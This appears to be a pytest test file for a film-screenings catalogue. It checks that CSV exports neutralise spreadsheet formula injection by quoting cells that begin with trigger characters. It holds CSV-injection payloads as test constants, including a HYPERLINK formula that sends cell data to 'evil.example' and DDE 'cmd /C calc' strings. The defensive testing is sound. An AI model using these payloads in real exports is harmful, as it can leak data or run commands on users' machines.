"""Item 6a: CSV cells that a spreadsheet would run as formulas reach it as text.

A lineup from someone else (the way hostile text arrives) is imported, and a screening
is added by hand, on SQLite and PostgreSQL; every CSV door is then read as a
spreadsheet reads it, with the real csv parser. A text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab, a CR or a LF must begin with ``'`` (OWASP, "CSV Injection");
numbers are never touched, and JSON (the pages' JSON-LD too) keeps the values as they
are.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import extruct
import pytest
from hypothesis import given
from hypothesis import strategies as st

from screenings.cli import run
from screenings.config import Settings
from screenings.exporters.tabular import render_csv
from screenings.records import (
    AwardView,
    EditionRef,
    EditionView,
    FestivalView,
    FilmRef,
    FilmView,
    NominationView,
    PersonView,
    ProgrammeRef,
    ScreeningView,
    ShownFilm,
    VenueRef,
    VenueView,
)
from screenings.web import FeedApp
from tests.golden import matches
from tests.test_pages import JSONLD, get

GOLDEN = Path(__file__).resolve().parents[1] / "golden"
# Written out here, not imported: the test states the rule the code must keep.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")

TITLE = '=HYPERLINK("https://evil.example/?q="&A1,"Tickets")'
DIRECTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
FESTIVAL = "+Fest"
SECTION = "-2+3"
VENUE = "@Box Office"
CITY = "=1+1"
AUDIENCE = "+public"
NOTES = "=cmd|' /C calc'!A0"
HEADER = "Title,Year,Runtime,Director,Festival,Edition,Section,Venue,City,Date,Time,Timezone"
LINEUP = (
    f"{HEADER},Audience,Notes\r\n"
    f'"{TITLE.replace(chr(34), chr(34) * 2)}",2012,71,{DIRECTOR},{FESTIVAL},2013,{SECTION},'
    f"{VENUE},{CITY},2013-06-11,18:00,Europe/London,{AUDIENCE},{NOTES}\r\n"
)
# Screenings as a user can add them by hand: leading whitespace before a formula (kept
# out by the text rule, rules.clean_text, which trims a value: the formula then leads).
BY_HAND = [
    ("--note", "\t=1+1", "--audience", "\r=2+2"),
    ("--note", "\n=3+3", "--audience", "\t@SUM(A1:A9)"),
]
# Coordinates south and west of zero: numbers that begin with '-'.
VENUES = [("Sydney Opera House", "Sydney", "-33.8568", "151.2153"),
          ("Hot Docs Ted Rogers Cinema", "Toronto", "43.665", "-79.41")]  # fmt: skip

DOORS = {  # a CSV door -> the JSON door that lists the same rows
    "list": (("list", "--format", "csv"), ("list", "--format", "json")),
    "list films": (("list", "films", "--format", "csv"), ("list", "films", "--format", "json")),
    "list people": (
        ("list", "people", "--format", "csv"),
        ("list", "people", "--format", "json"),
    ),
    "list festivals": (
        ("list", "festivals", "--format", "csv"),
        ("list", "festivals", "--format", "json"),
    ),
    "list venues": (
        ("list", "venues", "--format", "csv"),
        ("list", "venues", "--format", "json"),
    ),
    "export csv": (("export", "csv"), ("export", "json")),
}


def call(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    code = run(list(args))
    captured = capsys.readouterr()
    assert code == 0, captured.err
    return captured.out


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def db(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A catalogue holding the hostile lineup, the screenings added by hand and the venues."""
    folder = tmp_path_factory.mktemp("injection")
    if request.param == "sqlite":
        url = "sqlite:///" + str(folder / "catalogue.sqlite3")
    else:
        url = request.getfixturevalue("postgres_server").new_database()
    lineup = folder / "lineup.csv"
    lineup.write_bytes(LINEUP.encode())
    commands = [["import", str(lineup)]]
    for number, extra in enumerate(BY_HAND):
        when = ["--on", f"2013-06-1{2 + number}", "--at", "20:00"]
        place = ["--city", "London", "--timezone", "Europe/London"]
        commands.append(["add", "screening", TITLE, *when, *place, *extra])
    for name, city, lat, lon in VENUES:
        commands.append(["add", "venue", name, "--city", city, "--lat", lat, "--lon", lon])
    for command in commands:
        assert run(["--db", url, *command]) == 0, command
    yield url


def spreadsheet(data: str) -> list[dict[str, str]]:
    """The rows as a spreadsheet program reads the file: RFC 4180, every cell a string."""
    return list(csv.DictReader(io.StringIO(data, newline="")))


def flattened(record: dict[str, Any]) -> dict[str, str]:
    """A JSON record as its CSV row would say it: nested objects as ``film_title``
    (a programme as its title alone), lists joined with '; ' (a screening's films: their
    titles, joined with ' / '), null as empty."""
    cells: dict[str, str] = {}
    for key, value in record.items():
        if key == "programme" and value is not None:
            cells[key] = value["title"]
        elif isinstance(value, dict):
            cells.update({f"{key}_{k}": v for k, v in flattened(value).items()})
        elif key == "films" and isinstance(value, list):
            cells[key] = " / ".join(film["title"] for film in value)
        elif isinstance(value, list):
            cells[key] = "; ".join(value)
        else:
            cells[key] = "" if value is None else str(value)
    return cells


@pytest.mark.parametrize("door", DOORS)
def test_no_cell_reaches_a_spreadsheet_as_a_formula(
    db: str, door: str, capsys: pytest.CaptureFixture[str]
) -> None:
    csv_args, json_args = DOORS[door]
    rows = spreadsheet(call(capsys, "--db", db, *csv_args))
    document = json.loads(call(capsys, "--db", db, *json_args))
    (kind,) = set(document) - {"version"}
    assert rows and len(rows) == len(document[kind])
    numeric = {"id", "latitude", "longitude"}
    for row, record in zip(rows, document[kind], strict=True):
        raw = flattened(record)
        assert {key for key, value in raw.items() if value} <= set(row)
        for column, cell in row.items():
            value = raw.get(column, "")  # a nested record that is null: its columns empty
            if column in numeric or not value.startswith(TRIGGERS):
                assert cell == value, (door, column)
            else:  # the formula, as text: a quote before it, nothing else changed
                assert cell == "'" + value, (door, column)
        formulas = {c: v for c, v in row.items() if v.startswith(TRIGGERS) and c not in numeric}
        assert not formulas, door


def test_every_hostile_value_arrived_and_is_quoted(
    db: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attack itself: the cells a spreadsheet would have run, one by one."""
    rows = spreadsheet(call(capsys, "--db", db, "list", "--format", "csv"))
    imported = rows[0]
    assert imported["film_title"] == "'" + TITLE
    assert imported["edition_festival"] == "'" + FESTIVAL
    assert imported["section"] == "'" + SECTION
    assert imported["venue_name"] == "'" + VENUE
    assert imported["city"] == imported["venue_city"] == "'" + CITY
    assert imported["audience"] == "'" + AUDIENCE
    assert imported["notes"] == "'" + NOTES
    assert {(r["audience"], r["notes"]) for r in rows[1:]} == {
        ("'=2+2", "'=1+1"),
        ("'@SUM(A1:A9)", "'=3+3"),
    }
    films = spreadsheet(call(capsys, "--db", db, "list", "films", "--format", "csv"))
    assert [f["directors"] for f in films if f["title"] == "'" + TITLE] == ["'" + DIRECTOR]


def test_json_carries_the_values_as_they_are(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    document = json.loads(call(capsys, "--db", db, "list", "--format", "json"))
    first = document["screenings"][0]
    assert document["version"] == 2
    assert (first["film"]["title"], first["notes"], first["section"]) == (TITLE, NOTES, SECTION)


def test_the_pages_json_ld_carries_the_values_as_they_are(
    db: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """What a search engine reads of the film's page (its JSON-LD, taken out by extruct):
    the values as typed, from a block in which none of them is markup (``&`` and the
    quotes of the title included)."""
    films = json.loads(call(capsys, "--db", db, "list", "films", "--format", "json"))["films"]
    (slug,) = [film["slug"] for film in films if film["title"] == TITLE]
    app = FeedApp(Settings(db), base_url="https://films.example.org")
    status, _, body = get(app, f"/films/{slug}")
    assert status == 200
    (block,) = JSONLD.findall(body.decode())
    assert not {"<", ">", "&"} & set(block)
    (document,) = extruct.extract(body.decode(), syntaxes=["json-ld"])["json-ld"]
    nodes = {node["@id"]: node for node in document["@graph"]}
    events = [node for node in nodes.values() if node["@type"] == "ScreeningEvent"]
    assert len(events) == 3 and {event["name"] for event in events} == {TITLE}
    (work,) = {event["workPresented"]["@id"] for event in events}
    assert nodes[work]["name"] == TITLE
    assert nodes[work]["director"] == [{"@type": "Person", "name": DIRECTOR}]
    places = [event["location"] for event in events]
    (venue,) = [nodes[place["@id"]] for place in places if "@id" in place]
    assert (venue["name"], venue["address"]["addressLocality"]) == (VENUE, CITY)
    assert [place["name"] for place in places if "@id" not in place] == ["London", "London"]
    (edition,) = [node for node in nodes.values() if node["@type"] == "Festival"]
    assert edition["name"] == f"{FESTIVAL} 2013"


def test_negative_coordinates_stay_numbers(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    rows = spreadsheet(call(capsys, "--db", db, "list", "venues", "--format", "csv"))
    coordinates = {r["name"]: (r["latitude"], r["longitude"]) for r in rows if r["latitude"]}
    assert coordinates == {name: (lat, lon) for name, _, lat, lon in VENUES}


def test_the_numeric_columns_follow_the_declared_types() -> None:
    from screenings.records import numeric_columns

    assert numeric_columns(ScreeningView) == {
        "id",
        "film_id",
        "film_year",
        "venue_id",
        "edition_id",
        "edition_year",
        "duration_minutes",
        "length_minutes",
        "sequence",
    }
    assert numeric_columns(FilmView) == {"id", "year", "runtime_minutes"}
    assert numeric_columns(VenueView) == {"id", "latitude", "longitude"}
    assert numeric_columns(PersonView) == {"id", "films"}
    assert numeric_columns(FestivalView) == {"id", "editions"}
    assert numeric_columns(EditionView) == {"id", "festival_id", "year", "screenings"}
    assert numeric_columns(AwardView) == {"id", "festival_id"}
    assert numeric_columns(NominationView) == {
        "id",
        "award_id",
        "year",
        "edition_id",
        "edition_year",
        "film_id",
        "film_year",
        "person_id",
    }


def test_the_output_contract_lists_the_numeric_columns() -> None:
    from screenings.records import numeric_columns

    readme = (Path(__file__).resolve().parents[2] / "docs" / "output.md").read_text()
    table = readme.split("| kind | numeric columns, never prefixed |\n| --- | --- |\n")[1]
    listed = {}
    for line in table.split("\n\n")[0].splitlines():
        kind, columns = (cell.strip() for cell in line.strip("|").split("|"))
        listed[kind] = {column.strip(" `") for column in columns.split(",")}
    from screenings.cli.listing import _VIEW_TYPES

    views = {"screenings": ScreeningView, **_VIEW_TYPES}  # every kind that list lists
    assert listed == {kind: numeric_columns(view) for kind, view in views.items()}


def _screening(number: int, text: str) -> ScreeningView:
    """A screening whose every text field says ``text`` (a field with a closed set of
    values too: the rule does not trust the catalogue to have checked them)."""
    return ScreeningView(
        id=number,
        uid=text,
        film=FilmRef(number, text, -1),
        venue=VenueRef(number, text, text),
        edition=EditionRef(number, text, 2013, text),
        city=text,
        local_date=dt.date(2013, 6, 11),
        local_time=dt.time(18, 0),
        timezone=text,
        start=text,
        starts_at_utc=dt.datetime(2013, 6, 11, 17, 0, tzinfo=dt.UTC),
        duration_minutes=-5,
        length_minutes=71,
        kind=text,
        status=text,
        visibility=text,
        audience=text,
        section=text,
        ticket_url=text,
        notes=text,
        sequence=0,
        updated_at=dt.datetime(2013, 5, 23, 12, 0, tzinfo=dt.UTC),
        # Both, for the rule's sake: a real screening shows a film or a programme.
        programme=ProgrammeRef(number, text),
        films=[ShownFilm(number, text, -1, 1)],
    )


PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "a=1"]
NUMBERS = {
    "film_year": "-1",
    "edition_year": "2013",
    "duration_minutes": "-5",
    "length_minutes": "71",
    "sequence": "0",
}
TIMES = {"local_date", "local_time", "starts_at_utc", "updated_at"}


def test_the_rule_pinned_byte_for_byte() -> None:
    """Every trigger in every text column; numbers, even negative ones, as they are."""
    data = render_csv(ScreeningView, [_screening(n, p) for n, p in enumerate(PAYLOADS, 1)])
    matches(GOLDEN / "csv-formulas.csv", data)
    rows = spreadsheet(data.decode())
    for number, (row, payload) in enumerate(zip(rows, PAYLOADS, strict=True), 1):
        text = "'" + payload if payload.startswith(TRIGGERS) else payload
        for column, cell in row.items():
            if column == "id" or column.endswith("_id"):
                assert cell == str(number)
            elif column in NUMBERS:
                assert cell == NUMBERS[column], column
            elif column not in TIMES:
                assert cell == text, column


@given(st.text())
def test_any_title_reads_back_as_text(title: str) -> None:
    film = FilmView(1, title, None, -1, None, [title], [], None, None, "slug", [])
    (row,) = spreadsheet(render_csv(FilmView, [film]).decode())
    expected = "'" + title if title.startswith(TRIGGERS) else title
    assert (row["title"], row["countries"], row["year"]) == (expected, expected, "-1")
